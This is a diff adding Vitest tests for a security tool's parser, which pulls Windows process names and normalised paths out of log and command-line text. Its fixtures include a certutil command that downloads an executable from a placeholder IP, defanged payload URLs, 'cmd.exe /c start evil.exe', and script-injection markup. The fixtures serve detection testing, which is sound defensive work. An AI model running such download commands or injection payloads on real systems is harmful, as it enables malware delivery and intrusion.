@@ -1,0 +1,190 @@
+import { describe, expect, it } from 'vitest';
+import { findProcesses } from '@/lib/detect/find-processes';
+import { directoryOf, normalizePath } from '@/lib/detect/normalize-path';
+
+const names = (text: string) => findProcesses(text).map((m) => m.name);
+const paths = (text: string) => findProcesses(text).map((m) => m.path);
+
+describe('findProcesses: what counts', () => {
+  it.each([
+    ['svchost.exe', ['svchost.exe']],
+    ['SVCHOST.EXE', ['svchost.exe']],
+    ['Process svchost.exe started.', ['svchost.exe']],
+    ['(explorer.exe)', ['explorer.exe']],
+    ['[cmd.exe]', ['cmd.exe']],
+    ["'powershell.exe'", ['powershell.exe']],
+    ['process.name : "rundll32.exe"', ['rundll32.exe']],
+    ['process.name:rundll32.exe', ['rundll32.exe']],
+    ['OriginalFileName=Cmd.Exe', ['cmd.exe']],
+    ['invoice.pdf.exe', ['invoice.pdf.exe']],
+    ['scvhost.exe and isass.exe', ['scvhost.exe', 'isass.exe']],
+    ['svch0st.exe', ['svch0st.exe']],
+    ['ѕvchost.exe', ['ѕvchost.exe']], // Cyrillic s: its own name
+    ['7z.exe x a.zip', ['7z.exe']],
+    ['cmd.exe /c start evil.exe && notepad.exe', ['cmd.exe', 'evil.exe', 'notepad.exe']],
+    [
+      'explorer.exe, chrome.exe; msedge.exe|teams.exe',
+      ['explorer.exe', 'chrome.exe', 'msedge.exe', 'teams.exe'],
+    ],
+    ['&quot;svchost.exe&quot;', ['svchost.exe']],
+    ['setup (1).exe', ['setup (1).exe']],
+    ['svchost.exe:Zone.Identifier', ['svchost.exe']],
+    ['ran svchost.exe.', ['svchost.exe']],
+    ['**svchost.exe**', ['svchost.exe']],
+    ['PSEXESVC.exe', ['psexesvc.exe']],
+    ['mal ware.exe', ['ware.exe']],
+  ])('%j → %j', (text, expected) => {
+    expect(names(text)).toEqual(expected);
+  });
+});
+
+describe('findProcesses: what does not count', () => {
+  it.each([
+    ['*.exe'],
+    ['C:\\Windows\\*.exe'],
+    ['svc*.exe'],
+    ['*svchost.exe'],
+    ['?vchost.exe'],
+    ['.exe'],
+    ['the .exe extension'],
+    ['files ending in .EXE are executables'],
+    ['svchost.exe.evil.com'],
+    ['update.exe.example.org'],
+    ['svchost.exe.mui'],
+    ['app.exe.config'],
+    ['app.executable'],
+    ['payload.exe_'],
+    ['kernel32.dll'],
+    ['run.ps1'],
+    ['invoice.docm'],
+    ['report.pdf'],
+    ['a.hta b.sct c.js d.vbs'],
+    ['svchost'],
+    ['10.0.19041.exe'],
+    ['...exe'],
+    ['host-01.corp.local'],
+    ['v1.2.3'],
+  ])('%j → nothing', (text) => {
+    expect(names(text)).toEqual([]);
+  });
+});
+
+describe('findProcesses: paths', () => {
+  it.each([
+    ['C:\\Windows\\System32\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
+    ['c:/windows/system32/svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
+    ['C:\\\\Windows\\\\System32\\\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
+    ['C:\\\\\\\\Windows\\\\\\\\System32\\\\\\\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
+    ['\\\\?\\C:\\Windows\\System32\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
+    ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff', 'c:\\windows\\system32\\conhost.exe'],
+    [
+      '\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe',
+      'c:\\windows\\system32\\svchost.exe',
+    ],
+    ['\\\\Device\\\\HarddiskVolume2\\\\Windows\\\\explorer.exe', 'c:\\windows\\explorer.exe'],
+    ['%SystemRoot%\\System32\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
+    ['%windir%\\system32\\rundll32.exe', 'c:\\windows\\system32\\rundll32.exe'],
+    [
+      '%ProgramFiles%\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+      'c:\\program files\\microsoft office\\root\\office16\\winword.exe',
+    ],
+    [
+      '%ProgramFiles(x86)%\\Google\\Update\\GoogleUpdate.exe',
+      'c:\\program files (x86)\\google\\update\\googleupdate.exe',
+    ],
+    ['%LOCALAPPDATA%\\Temp\\x.exe', 'c:\\users\\...\\appdata\\local\\temp\\x.exe'],
+    ['\\SystemRoot\\System32\\smss.exe', 'c:\\windows\\system32\\smss.exe'],
+    ['\\\\fileserver01\\share$\\tools\\PsExec.exe', '\\\\fileserver01\\share$\\tools\\psexec.exe'],
+    ['\\\\\\\\fs02\\\\deploy\\\\setup.exe', '\\\\fs02\\deploy\\setup.exe'],
+    ['C:\\PROGRA~1\\MICROS~1\\Office16\\EXCEL.EXE', 'c:\\progra~1\\micros~1\\office16\\excel.exe'],
+    ['C:\\Windows\\System32\\..\\SysWOW64\\.\\cmd.exe', 'c:\\windows\\syswow64\\cmd.exe'],
+    [
+      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
+      'c:\\program files\\google\\chrome\\application\\chrome.exe',
+    ],
+    [
+      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+      'c:\\program files\\microsoft office\\root\\office16\\winword.exe',
+    ],
+    [
+      'C:\\Users\\jdoe\\Downloads\\Invoice 2211.pdf.exe',
+      'c:\\users\\jdoe\\downloads\\invoice 2211.pdf.exe',
+    ],
+    ['Image=C:\\Windows\\System32\\cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
+    ['"image":"C:\\\\Windows\\\\System32\\\\cmd.exe"', 'c:\\windows\\system32\\cmd.exe'],
+    ['\\Windows\\System32\\cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
+  ])('%j → %j', (text, expected) => {
+    expect(paths(text)).toEqual([expected]);
+  });
+
+  it('reads every executable of a command line, each with its own path', () => {
+    const found = findProcesses(
+      'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\svchost.exe -k netsvcs && "C:\\Program Files\\X Y\\z.exe"',
+    );
+    expect(found.map((m) => [m.name, m.path])).toEqual([
+      ['cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
+      ['svchost.exe', 'c:\\users\\public\\svchost.exe'],
+      ['z.exe', 'c:\\program files\\x y\\z.exe'],
+    ]);
+  });
+
+  it('does not glue arguments into a path with spaces', () => {
+    const found = findProcesses('C:\\Windows\\System32\\cmd.exe /c svchost.exe');
+    expect(found.map((m) => [m.name, m.path])).toEqual([
+      ['cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
+      ['svchost.exe', null],
+    ]);
+    expect(paths('C:\\Windows\\explorer.exe launched Update Tool.exe')).toEqual([
+      'c:\\windows\\explorer.exe',
+      null,
+    ]);
+  });
+
+  it.each([
+    ['https://dl.example.com/files/setup.exe', 'setup.exe'],
+    ['http://203.0.113.7/payload.exe?x=1', 'payload.exe'],
+    ['hxxp[:]//203.0.113.7/a/b/stage2.exe', 'stage2.exe'],
+    ['certutil -urlcache -f http://198.51.100.4/p.exe C:\\ProgramData\\upd.exe', 'p.exe'],
+  ])('a download URL %j names %s with no path', (text, name) => {
+    const m = findProcesses(text)[0]!;
+    expect(m).toMatchObject({ name, url: true, path: null });
+  });
+
+  it('keeps relative paths as names without a path', () => {
+    expect(findProcesses('.\\tools\\x.exe')).toMatchObject([{ name: 'x.exe', path: null }]);
+    expect(findProcesses('Temp\\x.exe')).toMatchObject([{ name: 'x.exe', path: null }]);
+  });
+
+  it('reports spans that cover the whole path', () => {
+    const text = 'ran "C:\\Windows\\System32\\svchost.exe" -k';
+    const [m] = findProcesses(text);
+    expect(text.slice(m!.start, m!.end)).toBe('C:\\Windows\\System32\\svchost.exe');
+    expect(text.slice(m!.nameStart, m!.end)).toBe('svchost.exe');
+  });
+});
+
+describe('directoryOf', () => {
+  it.each([
+    [normalizePath('C:\\Windows\\System32\\svchost.exe'), 'c:\\windows\\system32'],
+    [normalizePath('C:\\x.exe'), 'c:\\'],
+    ['svchost.exe', null],
+  ])('%s → %s', (path, dir) => {
+    expect(directoryOf(path)).toBe(dir);
+  });
+});
+
+describe('hostile text', () => {
+  it('stays linear on a huge run with no separators', () => {
+    const text = 'a'.repeat(200_000) + '.exe ' + ' '.repeat(100_000) + '\\x.exe';
+    const started = performance.now();
+    const found = findProcesses(text);
+    expect(performance.now() - started).toBeLessThan(2_000);
+    expect(found.map((m) => m.name)).toEqual(['x.exe']);
+  });
+
+  it('treats markup-looking text as text', () => {
+    expect(names('<img src=x onerror=alert(1)>.exe "><svg onload=alert(1)>svchost.exe')).toEqual([
+      'svchost.exe',
+    ]);
+  });
+});
